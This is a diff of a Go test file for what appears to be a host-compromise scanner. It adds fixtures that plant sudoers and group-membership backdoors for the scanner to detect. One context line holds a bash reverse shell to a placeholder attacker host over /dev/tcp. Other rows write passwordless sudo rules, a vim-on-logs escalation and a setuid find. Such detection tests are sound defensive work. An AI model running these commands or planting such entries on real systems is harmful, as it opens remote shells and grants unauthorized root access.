@@ -15,6 +15,10 @@ func passwdLine(line string) func(*tree) {
 	return func(tr *tree) { tr.more("/etc/passwd", line+"\n") }
 }
 
+func groupLine(line string) func(*tree) {
+	return func(tr *tree) { tr.more("/etc/group", line+"\n") }
+}
+
 const shellOut = "#!/bin/sh\nnohup bash -c 'bash -i >& /dev/tcp/" + evil + "/443 0>&1' &\n"
 
 // listener adds a socket to the kernel's table and gives it to a process.
@@ -101,6 +105,16 @@ var panixRows = []row{
 	}},
 	{"ssh_key private half", "secrets-on-disk", check.Medium, "/home/runner/.ssh/id_ed1822", false, func(tr *tree) { tr.file("/home/runner/.ssh/id_ed1822", "x\n", 0o600) }},
 	{"sudoers_backdoor", "privileges", check.Medium, "/etc/sudoers.d/runner", false, plainFile("/etc/sudoers.d/runner", "runner ALL=(ALL) NOPASSWD:ALL\n")},
+	{"sudoers_backdoor editor", "privileges", check.Medium, "/etc/sudoers.d/editor|/usr/bin/vim /var/log/*", false, plainFile("/etc/sudoers.d/editor", "runner\tALL=(root) NOPASSWD: \\\n\t/usr/bin/vim /var/log/*\n")},
+	{"sudoers_backdoor group", "privileges", check.Medium, "/etc/sudoers.d/byname|%builders", false, func(tr *tree) {
+		tr.file("/etc/sudoers.d/byname", "%builders ALL=(root) NOPASSWD: /usr/bin/make\n", 0o440)
+		tr.more("/etc/group", "builders:x:2001:runner\n")
+	}},
+	{"group docker", "privileges", check.High, "/etc/group|runner is in docker: it starts a container", false, groupLine("docker:x:990:ir,runner")},
+	{"group disk", "privileges", check.High, "/etc/group|disk: it reads and writes", false, groupLine("disk:x:6:runner")},
+	{"group shadow under another name", "privileges", check.High, "/etc/group|shadow: it reads", false, groupLine("printers:x:42:runner")},
+	{"group first", "privileges", check.High, "/etc/group|forgejo-runner is in sudo: the rules", false, passwdLine("forgejo-runner:x:996:27::/nonexistent:/usr/sbin/nologin")},
+	{"group of a service", "privileges", check.Medium, "/etc/group|news is in docker", false, groupLine("docker:x:990:news")},
 	{"suid_backdoor", "privileges", check.High, "/usr/bin/find", true, func(tr *tree) {
 		tr.file("/usr/bin/find", "\x7fELF", 0o755)
 		tr.must(os.Chmod(tr.root+"/usr/bin/find", 0o755|os.ModeSetuid))
